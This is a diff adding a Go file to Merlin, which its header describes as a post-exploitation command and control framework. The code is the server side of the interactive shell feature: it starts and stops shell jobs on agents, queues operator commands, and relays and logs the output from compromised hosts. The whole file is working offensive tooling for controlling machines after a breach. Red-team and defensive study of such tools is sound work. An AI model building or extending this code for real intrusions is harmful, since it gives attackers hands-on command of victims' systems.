@@ -0,0 +1,124 @@
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2019  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package agents
+
+import (
+	// Standard
+	"fmt"
+	"strings"
+	"sync"
+
+	// 3rd Party
+	"github.com/satori/go.uuid"
+
+	// Merlin
+	"github.com/Ne0nd0g/merlin/pkg/api"
+	"github.com/Ne0nd0g/merlin/pkg/messages"
+)
+
+// shells holds the input waiting for each agent's interactive shell
+var shells = struct {
+	sync.Mutex
+	m map[uuid.UUID]*shellInput
+}{m: make(map[uuid.UUID]*shellInput)}
+
+// shellInput is the input typed by the operator that has not been sent to the agent's interactive shell
+type shellInput struct {
+	input strings.Builder
+	stop  bool // The operator closed the shell; the agent kills it on its next exchange
+}
+
+// StartShell creates the job that runs an interactive shell on the agent. The agent exchanges the shell's input and
+// output with the server, without waiting for its sleep time, until the shell exits or is stopped with StopShell.
+func StartShell(agentID uuid.UUID) (string, error) {
+	if !isAgent(agentID) {
+		return "", api.Errorf(api.AgentNotFound, "%s is not a known agent", agentID)
+	}
+	shells.Lock()
+	defer shells.Unlock()
+	if s, ok := shells.m[agentID]; ok && !s.stop {
+		return "", fmt.Errorf("agent %s already has an interactive shell", agentID)
+	}
+	job, err := AddJob(agentID, "shell", nil)
+	if err != nil {
+		return "", err
+	}
+	shells.m[agentID] = &shellInput{}
+	Log(agentID, fmt.Sprintf("Started an interactive shell with job %s", job))
+	return job, nil
+}
+
+// ShellInput queues a line typed by the operator for the agent's interactive shell
+func ShellInput(agentID uuid.UUID, line string) error {
+	shells.Lock()
+	defer shells.Unlock()
+	s, ok := shells.m[agentID]
+	if !ok || s.stop {
+		return fmt.Errorf("agent %s does not have an interactive shell", agentID)
+	}
+	s.input.WriteString(line + "\n")
+	Log(agentID, fmt.Sprintf("Shell input: %s", line))
+	return nil
+}
+
+// StopShell tells the agent to kill its interactive shell on its next exchange
+func StopShell(agentID uuid.UUID) {
+	shells.Lock()
+	defer shells.Unlock()
+	if s, ok := shells.m[agentID]; ok {
+		s.stop = true
+	}
+}
+
+// ShellRunning returns true if the agent has an interactive shell that was not stopped
+func ShellRunning(agentID uuid.UUID) bool {
+	shells.Lock()
+	defer shells.Unlock()
+	s, ok := shells.m[agentID]
+	return ok && !s.stop
+}
+
+// Shell prints the output of the agent's interactive shell and returns the input waiting for it
+func Shell(m messages.Base) (messages.Base, error) {
+	if !isAgent(m.ID) {
+		return messages.Base{}, api.Errorf(api.AgentNotFound, "%s is not a known agent", m.ID)
+	}
+	p := m.Payload.(messages.Shell)
+	if p.Output != "" {
+		Log(m.ID, fmt.Sprintf("Shell output:\r\n%s", p.Output))
+		fmt.Print(p.Output)
+	}
+	r := messages.Base{Version: 1.0, ID: m.ID, Type: "Shell"}
+
+	shells.Lock()
+	defer shells.Unlock()
+	s, ok := shells.m[m.ID]
+	if !ok || s.stop || p.Closed {
+		delete(shells.m, m.ID)
+		if p.Closed {
+			fmt.Println()
+			message("note", fmt.Sprintf("The interactive shell on agent %s exited", m.ID))
+			Log(m.ID, "The interactive shell exited")
+		}
+		r.Payload = messages.Shell{Command: "stop"}
+		return r, nil
+	}
+	r.Payload = messages.Shell{Input: s.input.String()}
+	s.input.Reset()
+	return r, nil
+}